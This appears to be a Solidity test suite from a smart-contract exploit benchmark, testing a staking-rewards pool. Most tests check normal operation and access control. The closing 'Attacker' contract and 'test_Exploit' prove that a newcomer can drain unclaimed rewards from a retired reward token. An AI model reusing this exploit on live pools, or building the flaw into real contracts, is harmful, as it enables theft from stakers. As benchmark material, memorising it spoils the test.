// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";
import "./StakeEmissions.sol";

// assay-canary-9ce06413-1293-4c07-802c-a14d5d21eb98

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function expectRevert(bytes4 reason) external;
    function expectRevert() external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Minted is ERC20 {
    address private minter = msg.sender;

    constructor(string memory name) ERC20(name, name) {}

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        _mint(to, amount);
    }
}

contract ShareToken is Minted("SHARE") {}

contract RewardToken is Minted("REWARD") {}

/// Tries calls from within another, as a token that calls back.
contract Hook is Minted("HOOK") {
    address private _at;
    bytes[] private _calls;
    bool private _armed;
    bool public tried;

    function aim(address at, bytes[] memory calls) external {
        _at = at;
        _calls = calls;
    }

    /// Makes a call that calls back.
    function begin(bytes calldata call_) external {
        _armed = true;
        (bool done, ) = _at.call(call_);
        require(done && !_armed, "not begun");
    }

    /// Makes all calls, none from within another.
    function each() external {
        for (uint256 i = 0; i < _calls.length; i++) {
            (bool done, ) = _at.call(_calls[i]);
            require(done, "refused without the lock");
        }
    }

    function _update(address from, address to, uint256 amount) internal override {
        super._update(from, to, amount);
        if (!_armed) return;
        _armed = false;
        for (uint256 i = 0; i < _calls.length; i++) {
            (bool done, bytes memory answer) = _at.call(_calls[i]);
            require(!done && bytes4(answer) == ReentrancyGuard.ReentrancyGuardReentrantCall.selector, "not locked");
        }
        tried = true;
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant ANA = address(0xA9A);
    address internal constant BEN = address(0xBE9);
    address internal constant CAT = address(0xCA7);

    ShareToken internal share;
    RewardToken public alpha;
    RewardToken public beta;
    StakeEmissions internal pool;
    Attacker internal mallory;

    // alpha is emitted for a week and retired, ana and ben have not claimed yet
    function setUp() public {
        vm.warp(1_800_000_000);
        share = new ShareToken();
        alpha = new RewardToken();
        beta = new RewardToken();
        pool = open();
        stake(ANA, 1_000e18);
        stake(BEN, 1_000e18);
        fund(alpha, 700e18, 7 days);
        fund(beta, 100e18, 10 days);
        vm.warp(block.timestamp + 8 days);
        pool.retireReward(alpha);
        mallory = new Attacker(pool, share, alpha);
        share.mint(address(mallory), 2_000e18);
    }

    function open() internal returns (StakeEmissions made) {
        made = new StakeEmissions(address(this), share, 3 days, address(this));
        made.listReward(alpha);
        made.listReward(beta);
    }

    function stake(address who, uint256 amount) internal {
        share.mint(who, amount);
        vm.startPrank(who);
        share.approve(address(pool), amount);
        require(pool.stake(amount) == amount, "all of it");
        vm.stopPrank();
    }

    function fund(RewardToken token, uint256 amount, uint256 duration) internal {
        token.mint(address(this), amount);
        token.approve(address(pool), amount);
        pool.fundReward(token, amount, duration);
    }

    function near(uint256 a, uint256 b) internal pure returns (bool) {
        return a > b ? a - b < 1e12 : b - a < 1e12;
    }

    function test_Regular() public {
        pool = open();
        fund(alpha, 900e18, 3 days); // waits for the first stake
        vm.warp(block.timestamp + 5 days);
        stake(ANA, 1_000e18);
        vm.warp(block.timestamp + 1 days);
        require(near(pool.earned(alpha, ANA), 300e18), "a third");
        stake(BEN, 2_000e18);
        fund(beta, 60e18, 1 days);
        vm.warp(block.timestamp + 1 days);
        require(near(pool.earned(alpha, ANA), 400e18) && near(pool.earned(alpha, BEN), 200e18), "by stake");
        vm.prank(ANA);
        pool.claimAll();
        require(near(alpha.balanceOf(ANA), 400e18) && near(beta.balanceOf(ANA), 20e18), "both");
        vm.prank(BEN);
        pool.requestExit(1_500e18);
        require(pool.totalStaked() == 1_500e18 && pool.stakeOf(BEN) == 500e18, "half a thousand stays");
        vm.prank(BEN);
        pool.cancelExit();
        require(pool.totalStaked() == 3_000e18, "back");
        vm.prank(BEN);
        pool.requestExit(2_000e18);
        vm.warp(block.timestamp + 3 days);
        vm.prank(BEN);
        require(pool.withdraw() == 2_000e18 && share.balanceOf(BEN) == 2_000e18, "withdrawn");

        pool.retireReward(alpha);
        require(pool.activeRewards().length == 1 && pool.listedRewards().length == 2, "one of two");
        require(pool.scheduleOf(alpha).updatedAt == pool.scheduleOf(alpha).endsAt, "over");
        vm.prank(BEN);
        require(near(pool.claim(alpha), 200e18), "ben's");
        vm.prank(ANA);
        require(near(pool.claim(alpha), 300e18), "ana's");
        require(alpha.balanceOf(address(pool)) < 1e12, "nothing is left");
        fund(beta, 10e18, 1 days);
        vm.warp(block.timestamp + 1 days);
        vm.prank(ANA);
        require(near(pool.claim(beta), 10e18), "the other goes on");
        pool.retireReward(beta);

        pool.setFunder(CAT);
        require(pool.funder() == CAT, "funder");
        pool.pause();
        pool.unpause();
        pool.transferOwnership(ANA);
        vm.prank(ANA);
        pool.acceptOwnership();
        vm.prank(ANA);
        pool.renounceOwnership();
    }

    function denied(address who) internal {
        vm.expectRevert(abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, who));
    }

    function test_RefusesStrangers() public {
        vm.startPrank(CAT);
        denied(CAT);
        pool.pause();
        denied(CAT);
        pool.unpause();
        denied(CAT);
        pool.setFunder(CAT);
        denied(CAT);
        pool.listReward(share);
        denied(CAT);
        pool.retireReward(beta);
        denied(CAT);
        pool.transferOwnership(CAT);
        denied(CAT);
        pool.acceptOwnership();
        denied(CAT);
        pool.renounceOwnership();
        vm.expectRevert(abi.encodeWithSelector(IStakeEmissions.NotFunder.selector, CAT));
        pool.fundReward(beta, 1e18, 2 days);
        vm.stopPrank();
        pool.pause();
        vm.expectRevert(Pausable.EnforcedPause.selector);
        pool.stake(1);
        vm.expectRevert(Pausable.EnforcedPause.selector);
        pool.cancelExit();
    }

    function test_RefusesOpening() public {
        vm.expectRevert(IStakeEmissions.ZeroAddress.selector);
        new StakeEmissions(address(this), IERC20(address(0)), 1 days, CAT);
        vm.expectRevert(abi.encodeWithSelector(IStakeEmissions.CooldownTooLong.selector, 30 days + 1));
        new StakeEmissions(address(this), share, 30 days + 1, CAT);
        vm.expectRevert(IStakeEmissions.ZeroAddress.selector);
        new StakeEmissions(address(this), share, 1 days, address(0));
    }

    function test_RefusesStakes() public {
        vm.startPrank(ANA);
        vm.expectRevert(IStakeEmissions.ZeroAmount.selector);
        pool.stake(0);
        vm.expectRevert(IStakeEmissions.ZeroAmount.selector);
        pool.requestExit(0);
        vm.expectRevert(abi.encodeWithSelector(IStakeEmissions.NotEnoughStake.selector, 1_000e18 + 1, 1_000e18));
        pool.requestExit(1_000e18 + 1);
        vm.expectRevert(abi.encodeWithSelector(IStakeEmissions.NothingPending.selector, ANA));
        pool.cancelExit();
        vm.expectRevert(abi.encodeWithSelector(IStakeEmissions.NothingPending.selector, ANA));
        pool.withdraw();
        pool.requestExit(1e18);
        uint256 at = block.timestamp + 3 days;
        vm.warp(at - 1);
        vm.expectRevert(abi.encodeWithSelector(IStakeEmissions.StillCooling.selector, at));
        pool.withdraw();
        vm.stopPrank();
    }

    function test_RefusesRewards() public {
        vm.expectRevert(IStakeEmissions.ZeroAddress.selector);
        pool.listReward(IERC20(address(0)));
        vm.expectRevert(abi.encodeWithSelector(IStakeEmissions.AlreadyListed.selector, alpha));
        pool.listReward(alpha);
        vm.expectRevert(abi.encodeWithSelector(IStakeEmissions.NotActive.selector, alpha));
        pool.retireReward(alpha);
        alpha.mint(address(this), 10e18);
        alpha.approve(address(pool), 10e18);
        vm.expectRevert(abi.encodeWithSelector(IStakeEmissions.NotActive.selector, alpha));
        pool.fundReward(alpha, 10e18, 2 days);
        vm.expectRevert(abi.encodeWithSelector(IStakeEmissions.NotListed.selector, share));
        pool.claim(share);
        uint256 ends = pool.scheduleOf(beta).endsAt;
        vm.expectRevert(abi.encodeWithSelector(IStakeEmissions.StillEmitting.selector, beta, ends));
        pool.retireReward(beta);
        beta.mint(address(this), 10e18);
        beta.approve(address(pool), 10e18);
        vm.expectRevert(abi.encodeWithSelector(EmissionSchedule.DurationOutOfBounds.selector, 1 days - 1));
        pool.fundReward(beta, 10e18, 1 days - 1);
        vm.expectRevert(abi.encodeWithSelector(EmissionSchedule.DurationOutOfBounds.selector, 365 days + 1));
        pool.fundReward(beta, 10e18, 365 days + 1);
        for (uint160 i = 1; i <= 6; i++) pool.listReward(IERC20(address(i)));
        vm.expectRevert(IStakeEmissions.TooManyRewards.selector);
        pool.listReward(IERC20(address(7)));
        vm.expectRevert(IStakeEmissions.ZeroAddress.selector);
        pool.setFunder(address(0));
    }

    function test_RefusesReentry() public {
        Hook hook = new Hook();
        pool.listReward(hook);
        pool.setFunder(address(hook));
        hook.mint(address(hook), 200e18);
        stake(address(hook), 100e18);
        share.mint(address(hook), 1e18);
        vm.startPrank(address(hook));
        share.approve(address(pool), 1e18);
        hook.approve(address(pool), 200e18);
        pool.fundReward(hook, 100e18, 1 days);
        pool.requestExit(10e18);
        vm.stopPrank();
        vm.warp(block.timestamp + 3 days);
        bytes[] memory calls = new bytes[](7);
        calls[0] = abi.encodeCall(pool.stake, (1e18));
        calls[1] = abi.encodeCall(pool.withdraw, ());
        calls[2] = abi.encodeCall(pool.requestExit, (1e18));
        calls[3] = abi.encodeCall(pool.cancelExit, ());
        calls[4] = abi.encodeCall(pool.fundReward, (hook, 1e18, 1 days));
        calls[5] = abi.encodeCall(pool.claim, (hook));
        calls[6] = abi.encodeCall(pool.claimAll, ());
        hook.aim(address(pool), calls);
        hook.begin(calls[5]);
        require(hook.tried(), "not called back");
        hook.each();
    }

    /// A rate must not round to nothing.
    function test_RefusesDust() public {
        pool = open();
        alpha.mint(address(this), 86_399);
        alpha.approve(address(pool), 86_399);
        vm.expectRevert(abi.encodeWithSelector(EmissionSchedule.RateTooLow.selector, 86_399, 1 days));
        pool.fundReward(alpha, 86_399, 1 days);
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(alpha.balanceOf(address(mallory)) >= 600e18, "nothing was gained");
    }

    function target() public view returns (address) {
        return address(pool);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    StakeEmissions internal pool;
    IERC20 internal share;
    IERC20 internal reward;

    constructor(StakeEmissions pool_, IERC20 share_, IERC20 reward_) {
        pool = pool_;
        share = share_;
        reward = reward_;
    }

    function run() external {
        share.approve(address(pool), type(uint256).max);
        pool.stake(share.balanceOf(address(this)));
        pool.claim(reward);
        pool.requestExit(pool.stakeOf(address(this)));
    }
}
